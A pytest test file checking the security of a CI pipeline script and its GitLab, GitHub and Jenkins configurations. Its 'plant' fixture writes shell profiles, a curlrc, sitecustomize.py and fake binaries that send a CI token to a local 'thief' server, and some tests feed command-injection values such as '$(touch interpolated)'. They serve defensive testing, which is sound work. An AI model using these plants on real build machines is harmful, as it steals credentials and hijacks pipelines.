"""The pipelines: the steps of `ci/pipeline.sh`, and the three files that call them.

The script runs here for real, with stand-ins for `reframe` and `nearmetal` that end with a given
exit code: the pipelines' logic is tested, no measurement. The vendors' files are parsed. Their
only shell of their own, that of the comment jobs, runs as well.
"""

import http.server
import json
import os
import re
import shutil
import subprocess
import sys
import textwrap
import threading
import time
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import pytest
import yaml

from tests.support.paths import CHECKOUT

SCRIPT, GITLAB, GITHUB, JENKINS = (
    CHECKOUT / "ci" / name
    for name in ("pipeline.sh", "gitlab-ci.yml", "github-actions.yml", "Jenkinsfile")
)
VENDORS = ["gitlab", "github", "jenkins"]
needs_curl = pytest.mark.skipif(not shutil.which("curl"), reason="needs curl")


def gitlab_jobs() -> dict[str, dict]:
    """The jobs with what they extend."""
    document = yaml.safe_load(GITLAB.read_text())
    return {
        name: {**document.get(part.get("extends"), {}), **part}
        for name, part in document.items()
        if isinstance(part, dict) and "script" in part
    }


def github_jobs() -> dict[str, dict]:
    return yaml.safe_load(GITHUB.read_text())["jobs"]


def jenkins_text() -> str:
    """The Jenkinsfile without its comments."""
    return re.sub(r"^\s*//.*\n", "", JENKINS.read_text(), flags=re.MULTILINE)


# The pipeline files: what their vendors accept.


def schema_says(schema: str, path: Path) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "check_jsonschema", "--builtin-schema", schema, path],
        text=True,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
    )


def test_gitlabs_schema_accepts_it_and_would_refuse_an_error(tmp_path):
    """With each job whole: the schema does not look into a template."""
    document = {**yaml.safe_load(GITLAB.read_text()), **gitlab_jobs()}
    whole, wrong = tmp_path / "whole.yml", tmp_path / "wrong.yml"
    whole.write_text(yaml.safe_dump(document))
    wrong.write_text(whole.read_text().replace("when: always", "when: perhaps"))
    for path in (GITLAB, whole):
        accepted = schema_says("vendor.gitlab-ci", path)
        assert accepted.returncode == 0, accepted.stdout
    refused = schema_says("vendor.gitlab-ci", wrong)
    assert refused.returncode == 1
    assert "artifacts" in refused.stdout


def test_githubs_schema_accepts_it_and_would_refuse_an_error(tmp_path):
    wrong = tmp_path / GITHUB.name
    wrong.write_text(GITHUB.read_text().replace("    timeout-minutes: 480", "    timeout: 480"))
    accepted = schema_says("vendor.github-workflows", GITHUB)
    assert accepted.returncode == 0, accepted.stdout
    refused = schema_says("vendor.github-workflows", wrong)
    assert refused.returncode == 1
    assert "timeout" in refused.stdout


def test_the_jenkinsfile_hands_all_shell_over_as_it_stands():
    text = jenkins_text()
    assert '"""' not in text, "Groovy would put secrets into the text of the script"
    assert not re.search(r'\bsh\s*\(?\s*"', text), "Groovy would put secrets into the text"
    outside = re.sub(r"'''.*?'''", "''", text, flags=re.DOTALL)
    for opening, closing in ("{}", "()", "[]"):
        assert outside.count(opening) == outside.count(closing)


# The pipeline files: which steps they call, and where.


def lines_on_the_cluster(vendor: str, change: bool) -> list[str]:
    """Every line of shell that runs on the cluster, for a change or at night."""
    if vendor == "gitlab":
        job = gitlab_jobs()["change" if change else "nightly"]
        return [*job["before_script"], *job["script"]]
    if vendor == "github":
        event = "github.event_name {} 'pull_request'".format("==" if change else "!=")
        steps = github_jobs()["campaign"]["steps"]
        chosen = [step for step in steps if step.get("if", event) == event]
        return [step["run"] for step in chosen if "run" in step]
    when = {"{ not { changeRequest() } }": False, "{ changeRequest() }": True}
    stages = re.findall(
        r"stage\('[^']*'\) \{\s*(?:when (.*)\n\s*)?steps \{\s*sh '(.*)'\s*\}", jenkins_text()
    )
    return [line for condition, line in stages if when.get(condition, change) == change]


@pytest.mark.parametrize("vendor", VENDORS)
@pytest.mark.parametrize("change, measure", [(False, "measure"), (True, "measure-change")])
def test_each_file_calls_the_steps_and_runs_nothing_else_on_the_cluster(vendor, change, measure):
    expected = [f"ci/pipeline.sh {step}" for step in ("install", measure, "judge")]
    assert lines_on_the_cluster(vendor, change) == expected


def test_no_shell_is_left_that_no_test_here_knows():
    (summary,) = (step for step in github_jobs()["campaign"]["steps"] if "Summary" in step.values())
    assert "GITHUB_STEP_SUMMARY" in summary["run"]
    assert set(gitlab_jobs()) == {"nightly", "change", "comment"}
    assert len(re.findall(r"^\s*sh\b", jenkins_text(), re.MULTILINE)) == 5
    for job in github_jobs().values():
        assert all("${{" not in step.get("run", "") for step in job["steps"])


def test_results_are_kept_whatever_the_exit_code():
    for name in ("nightly", "change"):
        kept = gitlab_jobs()[name]["artifacts"]
        assert (kept["when"], kept["paths"]) == ("always", ["campaign/"])
        assert kept["reports"] == {"junit": "campaign/gate.xml", "metrics": "campaign/gate.prom"}
    *_, summary, upload = github_jobs()["campaign"]["steps"]
    assert summary["if"] == upload["if"] == "${{ !cancelled() }}"
    assert upload["with"]["path"] == "campaign/"
    after = jenkins_text().partition("post {")[2].partition("cleanup {")[0]
    assert after.split()[:2] == ["always", "{"]
    assert "archiveArtifacts artifacts: 'campaign/**'" in after
    assert "junit testResults: 'campaign/gate.xml'" in after


def test_they_run_every_night_on_the_clusters_runner_one_at_a_time():
    document, jobs = yaml.safe_load(GITLAB.read_text()), gitlab_jobs()
    assert "schedule" in document[".when"]["nightly"]["if"]
    for name in ("nightly", "change"):
        assert jobs[name]["tags"] == ["nearmetal"]
        assert jobs[name]["resource_group"] == "nearmetal-$NEARMETAL_SYSTEM"
    campaign = github_jobs()["campaign"]
    assert campaign["runs-on"] == ["self-hosted", "nearmetal"]
    assert campaign["concurrency"]["cancel-in-progress"] is False
    assert yaml.safe_load(GITHUB.read_text())[True]["schedule"]  # YAML reads the key `on` as true
    assert re.findall(r"agent \{ label '(.*?)' \}", jenkins_text()) == ["nearmetal"]
    assert "disableConcurrentBuilds()" in jenkins_text()
    assert "cron(env.BRANCH_IS_PRIMARY == 'true' ?" in jenkins_text()


def test_changes_from_forks_reach_no_runner_on_the_cluster():
    document = yaml.safe_load(GITLAB.read_text())
    for place in ("workflow", "nightly", "change", "comment"):
        assert all(
            "$CI_MERGE_REQUEST_SOURCE_PROJECT_ID == $CI_MERGE_REQUEST_PROJECT_ID" in rule["if"]
            or "$CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH" in rule["if"]
            for rule in document[place]["rules"]
        )
    jobs = github_jobs()
    reached_by = {clause.split("'")[1]: clause for clause in jobs["campaign"]["if"].split("||")}
    assert set(reached_by) == {"schedule", "workflow_dispatch", "pull_request"}
    assert "head.repo.full_name == github.repository" in reached_by["pull_request"]
    assert [name for name, job in jobs.items() if "self-hosted" in job["runs-on"]] == ["campaign"]
    assert re.search(
        r"allOf \{\s*changeRequest\(\)\s*expression \{ !env.CHANGE_FORK \}\s*\}", jenkins_text()
    )


def test_the_token_is_only_where_no_code_of_a_change_ran():
    jobs = gitlab_jobs()
    assert jobs["comment"]["tags"] == ["nearmetal-comment"]
    assert jobs["comment"]["variables"]["GIT_STRATEGY"] == "none"
    assert jobs["comment"]["environment"]["name"] == "nearmetal-comment"
    assert all("environment" not in jobs[name] for name in ("nightly", "change"))
    jobs = github_jobs()
    assert jobs["comment"]["runs-on"] == "ubuntu-latest"
    assert jobs["campaign"]["permissions"] == {"contents": "read"}
    assert "github.token" not in json.dumps(jobs["campaign"])
    (checkout,) = (step for step in jobs["comment"]["steps"] if "checkout" in step.get("uses", ""))
    assert checkout["with"]["ref"] == "${{ github.event.pull_request.base.sha }}"
    assert checkout["with"]["sparse-checkout"] == "ci/pipeline.sh"
    for job in jobs.values():
        assert all(
            step["with"]["persist-credentials"] is False
            for step in job["steps"]
            if "checkout" in step.get("uses", "")
        )
    before, node, after = jenkins_text().partition("node('nearmetal-comment') {")
    assert node and "withCredentials" in after
    assert "text: readTrusted('ci/pipeline.sh')" in after and "checkout" not in after
    assert "withCredentials" not in before and "NEARMETAL_TOKEN" not in before


def test_a_comment_that_fails_does_not_hide_the_verdict():
    assert gitlab_jobs()["comment"]["allow_failure"] is True
    assert gitlab_jobs()["comment"]["rules"][0]["when"] == "always"
    assert github_jobs()["comment"]["needs"] == "campaign"
    assert "!cancelled()" in github_jobs()["comment"]["if"]


def test_actions_are_pinned_to_commits():
    uses = re.findall(r"uses: (\S+)(.*)", GITHUB.read_text())
    assert uses
    pinned = re.compile(r"actions/[a-z-]+@[0-9a-f]{40}")
    assert [use for use, comment in uses if not pinned.fullmatch(use) or "# v" not in comment] == []


# The script: how it explains itself, and what it refuses.


def run_script(*arguments: str, **options) -> subprocess.CompletedProcess:
    return subprocess.run([SCRIPT, *arguments], text=True, capture_output=True, **options)


def test_its_help_describes_every_step_and_exit_code():
    done = run_script("--help")
    assert done.returncode == 0
    for step in ("install", "measure", "measure-change", "judge", "comment URL LOG"):
        assert re.search(rf"^  {step} ", done.stdout, re.MULTILINE)
    assert re.findall(r"^  (\d) ", done.stdout, re.MULTILINE) == ["0", "1", "2", "3"]
    settings = set(re.findall(r"\b(?:NEARMETAL|RFM)_[A-Z_]+", SCRIPT.read_text()))
    assert settings - {"RFM_CONFIG_PATH"} == set(re.findall(r"^  ([A-Z_]+) ", done.stdout, re.M))


@pytest.mark.parametrize("arguments", [[], ["tell"], ["judge", "now"], ["comment", "https://a"]])
def test_an_unknown_step_or_wrong_arguments_are_bad_usage(arguments):
    done = run_script(*arguments)
    assert done.returncode == 3
    assert "usage: ci/pipeline.sh" in done.stderr


def test_it_installs_as_the_readme_says():
    readme = (CHECKOUT / "README.md").read_text()
    commands = re.findall(r"^ *(.*(?:pip install|-m venv).*)", SCRIPT.read_text(), re.MULTILINE)
    assert len(commands) == 3
    assert all(command in readme for command in commands)


# The script on the cluster.

STAND_IN = """#!{python} -IS
import os, sys
name, arguments = os.path.basename(sys.argv[0]), sys.argv[1:]
with open("calls", "a") as log:
    print(name, *arguments, os.environ.get("RFM_PREFIX"), file=log, sep="\\t")
kind = name if name == "reframe" else arguments[0]
if "--dry-run" in arguments:
    kind = "dry"
for option in ("--json", "--junit", "--markdown", "--openmetrics", "--output"):
    if option in arguments:
        open(arguments[arguments.index(option) + 1], "w").write(option)
sys.exit(int(os.environ["CODE_" + kind]))
"""


class Site:
    """A checkout after the installation, with stand-ins that end with the given exit codes."""

    def __init__(self, workspace: Path, **codes):
        self.workspace = workspace
        (workspace / "campaign").mkdir()
        programs = workspace / ".venv" / "bin"
        programs.mkdir(parents=True)
        for name in ("reframe", "nearmetal"):
            (programs / name).write_text(STAND_IN.format(python=sys.executable))
            (programs / name).chmod(0o755)
        (programs / "activate").write_text(f'PATH="{programs}:$PATH"\n')
        (workspace / "ci").mkdir()
        shutil.copy(SCRIPT, workspace / "ci")
        codes = {"CODE_reframe": 0, "CODE_gate": 0, "CODE_report": 0, "CODE_dry": 0, **codes}
        self.environment = {
            **os.environ,
            "NEARMETAL_SYSTEM": "ec2",
            "NEARMETAL_CHECKS": "tcp $(touch interpolated)",
            "RFM_PREFIX": "/shared/results",
            **{name: str(code) for name, code in codes.items()},
        }

    def step(self, name: str, **more: str) -> subprocess.CompletedProcess:
        return subprocess.run(
            ["ci/pipeline.sh", name],
            text=True,
            cwd=self.workspace,
            env={**self.environment, **more},
            capture_output=True,
        )

    def run(self, change: bool) -> int:
        """The steps of a pipeline, up to the first that fails."""
        for name in ("measure-change" if change else "measure", "judge"):
            code = self.step(name).returncode
            if code:
                break
        return code

    @property
    def calls(self) -> list[list[str]]:
        return [line.split("\t") for line in (self.workspace / "calls").read_text().splitlines()]


@pytest.mark.parametrize("change", [False, True])
@pytest.mark.parametrize(
    "reframe, gate, report, ends",
    [
        (0, 0, 0, 0),
        (0, 1, 0, 1),
        (1, 2, 0, 2),
        (1, 1, 0, 1),
        (0, 3, 1, 3),
        (1, 0, 0, 2),
        (0, 0, 3, 3),
    ],
)
def test_it_ends_with_the_gates_exit_code_and_keeps_the_report(
    tmp_path, change, reframe, gate, report, ends
):
    site = Site(tmp_path, CODE_reframe=reframe, CODE_gate=gate, CODE_report=report)
    assert site.run(change) == ends
    assert {path.name for path in (tmp_path / "campaign").iterdir()} == {
        "started",
        "prefix",
        "reframe-exit-code",
        "gate.json",
        "gate.xml",
        "gate.md",
        "gate.prom",
        "report.html",
    }


@pytest.mark.parametrize("change", [False, True])
def test_a_session_from_before_this_run_is_not_judged_for_it(tmp_path, change):
    site, before = Site(tmp_path), int(time.time())
    assert site.run(change) == 0
    (gate,) = (call for call in site.calls if call[1] == "gate")
    assert before <= int(gate[gate.index("--since") + 1]) <= time.time()


def test_at_night_everything_runs_and_goes_into_the_history(tmp_path):
    site = Site(tmp_path)
    assert site.run(change=False) == 0
    run, gate, report = site.calls
    assert run[1:-1] == ["-c", "reframe_checks", "-r", "--system", "ec2"]
    assert (gate[1], report[1]) == ("gate", "report")
    assert {call[-1] for call in site.calls} == {"/shared/results"}


def test_a_change_is_dry_run_first_and_keeps_out_of_the_history(tmp_path):
    site = Site(tmp_path)
    assert site.run(change=True) == 0
    dry, run, gate, report = site.calls
    assert "--dry-run" in dry and "-r" in run
    assert run[run.index("-n") + 1] == "tcp $(touch interpolated)"
    assert not (tmp_path / "interpolated").exists()
    assert (gate[1], report[1]) == ("gate", "report")
    assert {call[-1] for call in site.calls} == {"/shared/results/changes"}


@pytest.mark.parametrize("checks", [{"NEARMETAL_CHECKS": ""}, {}])
def test_a_change_runs_a_small_selection_where_the_site_names_none(tmp_path, checks):
    site = Site(tmp_path)
    del site.environment["NEARMETAL_CHECKS"]
    assert site.step("measure-change", **checks).returncode == 0
    assert "pingpong%placement=internode" in site.calls[1]


def test_a_change_whose_dry_run_fails_runs_nothing(tmp_path):
    site = Site(tmp_path, CODE_dry=1)
    assert site.run(change=True) == 3
    assert len(site.calls) == 1


def test_reframe_and_nearmetal_have_every_option_that_it_gives_them(tmp_path):
    def options_of(*command: str) -> set[str]:
        done = subprocess.run([*command, "--help"], text=True, capture_output=True, check=True)
        return set(re.findall(r"(?<![\w-])--?[a-zA-Z][\w-]*", done.stdout))

    site = Site(tmp_path)
    site.run(change=True)
    programs = {
        "reframe": options_of(str(Path(sys.executable).parent / "reframe")),
        "gate": options_of(sys.executable, "-m", "nearmetal", "gate"),
        "report": options_of(sys.executable, "-m", "nearmetal", "report"),
    }
    for name, *words in site.calls:
        known = programs[name if name == "reframe" else words[0]]
        assert {word for word in words if word.startswith("-")} <= known


@pytest.mark.parametrize(
    "wrong",
    [{"NEARMETAL_SYSTEM": ""}, {"RFM_PREFIX": ""}, {"RFM_PREFIX": "results"}, {"RFM_PREFIX": "."}],
)
def test_settings_that_would_lose_results_are_bad_usage(tmp_path, wrong):
    site = Site(tmp_path)
    if wrong.get("RFM_PREFIX") == ".":
        wrong = {"RFM_PREFIX": str(tmp_path / "results")}
    (tmp_path / "campaign" / "gate.md").write_text("of the last run")
    for step in ("measure", "judge", "install"):
        done = site.step(step, **wrong)
        assert done.returncode == 3
        assert next(iter(wrong)) in done.stderr
    assert not (tmp_path / "campaign" / "gate.md").exists(), (
        "would be kept and shown as of this run"
    )
    assert not (tmp_path / "calls").exists()


def test_an_installation_that_fails_is_no_regression(tmp_path):
    site = Site(tmp_path)
    shutil.rmtree(tmp_path / ".venv")
    (tmp_path / ".venv").write_text("no directory")
    assert site.step("install").returncode == 2


def test_a_step_before_its_turn_names_the_one_that_it_needs(tmp_path):
    site = Site(tmp_path)
    judge = site.step("judge")
    assert judge.returncode == 3 and "ci/pipeline.sh measure" in judge.stderr
    shutil.rmtree(tmp_path / ".venv")
    measure = site.step("measure")
    assert measure.returncode == 3 and "ci/pipeline.sh install" in measure.stderr


# The comment: the vendors' own shell and the script's step, against a forge that listens here.


def callers(url: str) -> list[tuple[bytes, bytes]]:
    """Command line and environment of each curl that calls this address.

    A process of the same user can read them.
    """
    found = []
    for process in Path("/proc").glob("[0-9]*"):
        try:
            line = (process / "cmdline").read_bytes()
            if line.startswith(b"curl\0") and url.encode() in line:
                found.append((line, (process / "environ").read_bytes()))
        except OSError:
            continue  # it has ended, or is somebody else's
    return found


class Forge(http.server.BaseHTTPRequestHandler):
    """Keeps what was posted, and gives pipeline.sh as GitLab does."""

    def do_GET(self):
        self.server.callers += callers(f":{self.server.server_port}/")
        self.server.gets.append((self.path, self.headers))
        self.send_response(200)
        self.end_headers()
        self.wfile.write(SCRIPT.read_bytes())

    def do_POST(self):
        self.server.callers += callers(f":{self.server.server_port}/")
        length = int(self.headers["Content-Length"])
        self.server.posts.append((self.path, self.headers, self.rfile.read(length).decode()))
        self.send_response(201)
        self.end_headers()

    def log_message(self, *arguments):
        pass


def serve():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Forge)
    server.gets, server.posts, server.callers = [], [], []
    threading.Thread(target=server.serve_forever, args=[0.01], daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


forge = pytest.fixture(serve, name="forge")
thief = pytest.fixture(serve, name="thief")


def comment(vendor: str, workspace: Path, forge, **more: str) -> subprocess.CompletedProcess:
    """The comment job's shell, in a directory that holds the campaign's files."""
    url = f"http://127.0.0.1:{forge.server_port}"
    if vendor == "gitlab":
        (shell,) = gitlab_jobs()["comment"]["script"]
        variables = {
            "CI_API_V4_URL": f"{url}/api/v4",
            "CI_MERGE_REQUEST_PROJECT_ID": "5",
            "CI_MERGE_REQUEST_IID": "7",
            "CI_MERGE_REQUEST_TARGET_BRANCH_NAME": "release/1.0&x",
            "CI_PIPELINE_URL": "https://the/log",
        }
    elif vendor == "github":
        step = github_jobs()["comment"]["steps"][-1]
        shell = step["run"]
        (workspace / "ci").mkdir(exist_ok=True)
        shutil.copy(SCRIPT, workspace / "ci")
        variables = {"API": f"{url}/repos/o/r", "NUMBER": "7", "RUN": "https://the/log"}
        assert set(step["env"]) == {*variables, "NEARMETAL_TOKEN"}
    else:
        (shell,) = re.findall(r"'''(#!.*?)'''", jenkins_text(), re.DOTALL)
        shell = textwrap.dedent(shell.partition("\n")[2])
        variables = {
            "PIPELINE": str(SCRIPT),
            "NEARMETAL_COMMENT_URL": f"{url}/api/v4/projects/5/merge_requests",
            "NEARMETAL_COMMENT_END": "notes",
            "CHANGE_ID": "7",
            "BUILD_URL": "https://the/log",
        }
    given = {"PATH": os.environ["PATH"], "NEARMETAL_TOKEN": "secret", "no_proxy": "127.0.0.1"}
    return subprocess.run(
        ["/bin/bash", "-eo", "pipefail"],
        input=shell,
        text=True,
        cwd=workspace,
        env={**given, **variables, **more},
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        timeout=60,
    )


def verdict(workspace: Path, text: str) -> None:
    (workspace / "campaign").mkdir(parents=True)
    (workspace / "campaign" / "gate.md").write_text(text)


@needs_curl
@pytest.mark.parametrize("vendor", VENDORS)
@pytest.mark.parametrize("markdown", ['| tcp | +12 % | "`$(id)`" & Größe @file |\n', None])
def test_the_comment_is_the_markdown_and_never_shows_the_token(tmp_path, forge, vendor, markdown):
    if markdown:
        verdict(tmp_path, markdown)
    done = comment(vendor, tmp_path, forge)
    assert (done.returncode, "secret" in done.stdout) == (0, False), done.stdout
    ((path, headers, text),) = forge.posts
    place = {"github": "/repos/o/r/issues/7/comments"}
    assert path == place.get(vendor, "/api/v4/projects/5/merge_requests/7/notes")
    assert headers["Authorization"] == "Bearer secret"
    body = json.loads(text)["body"]
    assert body.startswith(markdown or "Nearmetal reached no verdict")
    assert "https://the/log" in body


@needs_curl
def test_a_long_verdict_is_cut_to_what_a_forge_takes(tmp_path, forge):
    verdict(tmp_path, "Größe" * 20000)
    assert comment("jenkins", tmp_path, forge).returncode == 0
    body = json.loads(forge.posts[0][2])["body"]
    assert len(body) > 40000 and len(body.encode()) < 65536
    assert "https://the/log" in body


@needs_curl
def test_gitlabs_comment_takes_the_script_from_the_target_branch(tmp_path, forge):
    verdict(tmp_path, "clean")
    (tmp_path / "ci").mkdir()
    (tmp_path / "ci" / "pipeline.sh").write_text("touch changed\n")
    assert comment("gitlab", tmp_path, forge).returncode == 0
    ((address, headers),) = forge.gets
    assert urlsplit(address).path == "/api/v4/projects/5/repository/files/ci%2Fpipeline.sh/raw"
    assert parse_qs(urlsplit(address).query) == {"ref": ["release/1.0&x"]}
    assert headers["PRIVATE-TOKEN"] == "secret"
    assert not (tmp_path / "changed").exists()


def plant(
    home: Path, workspace: Path, thief, programs=("curl", "python3", "cat", "id", "mktemp", "bash")
) -> dict:
    """What a change's code can leave behind: files in home and workspace, and variables."""
    url = f"http://127.0.0.1:{thief.server_port}"
    steal = f'/usr/bin/curl -q -s --data "stolen=$NEARMETAL_TOKEN$(cat)" {url}/program\n'
    files = {
        ".curlrc": f'proxy = "{url}"\nnext\nurl = "{url}/curlrc"\ndata = "stolen"\n',
        ".config/curlrc": f'proxy = "{url}"\n',
        ".netrc": "default login thief password thief\n",
        ".gitconfig": "[core]\n    hooksPath = ~/hooks\n[credential]\n    helper = !steal\n",
        ".config/gh/hosts.yml": "github.com:\n    oauth_token: thief\n",
        ".config/glab-cli/config.yml": "host: thief\n",
        ".bashrc": steal,
        ".bash_profile": steal,
        ".profile": steal,
        "sitecustomize.py": f"import urllib.request as u; u.urlopen('{url}/python', b'stolen')\n",
    }
    for name, text in files.items():
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        (home / name).write_text(text)
    for directory in (home / "bin", workspace):
        directory.mkdir(exist_ok=True)
        for name in programs:
            (directory / name).write_text(f"#!/bin/sh\n{steal}")
            (directory / name).chmod(0o755)
    return {
        "HOME": str(home),
        "PATH": f"{home}/bin:.:{os.environ['PATH']}",
        "CURL_HOME": str(home),
        "XDG_CONFIG_HOME": str(home / ".config"),
        "PYTHONPATH": str(home),
        "ALL_PROXY": url,
        "http_proxy": url,
        "GIT_CONFIG_GLOBAL": str(home / ".gitconfig"),
        "LD_LIBRARY_PATH": str(home),
    }


@needs_curl
@pytest.mark.parametrize("vendor", ["gitlab", "jenkins"])
def test_what_a_change_left_behind_takes_no_part_in_the_comment(tmp_path, forge, thief, vendor):
    home, workspace = tmp_path / "home", tmp_path / "workspace"
    verdict(workspace, "clean")
    (workspace / "campaign" / "account").write_text("somebody@elsewhere\n")
    planted = plant(home, workspace, thief)
    # The plant bites where nobody takes care.
    subprocess.run(
        ["curl", "-s", "-d", "x", f"http://127.0.0.1:{forge.server_port}/"],
        env={**planted, "PATH": os.environ["PATH"], "no_proxy": "nothing"},
        capture_output=True,
    )
    assert thief.posts and not forge.posts
    thief.posts.clear()
    done = comment(vendor, workspace, forge, **planted)
    assert done.returncode == 0, done.stdout
    assert (len(forge.posts), thief.posts, thief.gets) == (1, [], [])
    assert "secret" not in done.stdout


@needs_curl
@pytest.mark.parametrize("vendor, calls", [("gitlab", 2), ("jenkins", 1)])
def test_the_processes_that_call_the_forge_show_no_token(tmp_path, forge, vendor, calls):
    """The shell itself shows it: hence a runner of its own, which the next tests ask for."""
    verdict(tmp_path, "clean")
    done = comment(vendor, tmp_path, forge, LD_LIBRARY_PATH=str(tmp_path))
    assert done.returncode == 0, done.stdout
    assert len(forge.callers) == calls
    for line, environment in forge.callers:
        assert b"secret" not in line and b"secret" not in environment
        names = {variable.partition(b"=")[0] for variable in environment.split(b"\0") if variable}
        assert names <= {b"HOME", b"PATH", b"https_proxy", b"no_proxy"}


@pytest.mark.parametrize("token", ["", 'x"\nurl = "http://thief/'])
def test_a_comment_without_a_proper_token_is_refused(tmp_path, forge, token):
    verdict(tmp_path, "clean")
    done = comment("jenkins", tmp_path, forge, NEARMETAL_TOKEN=token)
    assert done.returncode == 1
    assert "NEARMETAL_TOKEN" in done.stdout
    assert forge.posts == []


@pytest.mark.parametrize("vendor", VENDORS)
def test_the_user_that_ran_the_change_does_not_comment(tmp_path, forge, vendor):
    site = Site(tmp_path)
    assert site.step("install", NEARMETAL_SYSTEM="").returncode == 3
    (tmp_path / "campaign" / "gate.md").write_text("clean")
    done = comment(vendor, tmp_path, forge)
    assert done.returncode == 1
    assert "another" in done.stdout and "nearmetal-comment" in done.stdout
    assert forge.posts == []


@pytest.mark.parametrize("vendor", VENDORS)
@pytest.mark.parametrize("link", ["campaign", "campaign/gate.md", "campaign/account"])
def test_a_link_instead_of_the_verdict_is_not_read(tmp_path, forge, vendor, link):
    verdict(tmp_path / "private", "of the runner's user")
    (tmp_path / "private" / "campaign" / "account").write_text("somebody@elsewhere\n")
    if link == "campaign":
        (tmp_path / link).symlink_to("private/campaign")
    else:
        (tmp_path / "campaign").mkdir()
        (tmp_path / link).symlink_to(tmp_path / "private" / link)
    done = comment(vendor, tmp_path, forge)
    assert done.returncode == 1 and "link" in done.stdout
    assert forge.posts == []
    assert (tmp_path / "private" / "campaign" / "gate.md").exists()


@needs_curl
def test_a_forge_that_refuses_is_named(tmp_path, forge):
    verdict(tmp_path, "clean")
    port = forge.server_port
    forge.shutdown()
    forge.server_close()
    done = comment("jenkins", tmp_path, forge)
    assert done.returncode == 1
    assert f"127.0.0.1:{port}" in done.stdout
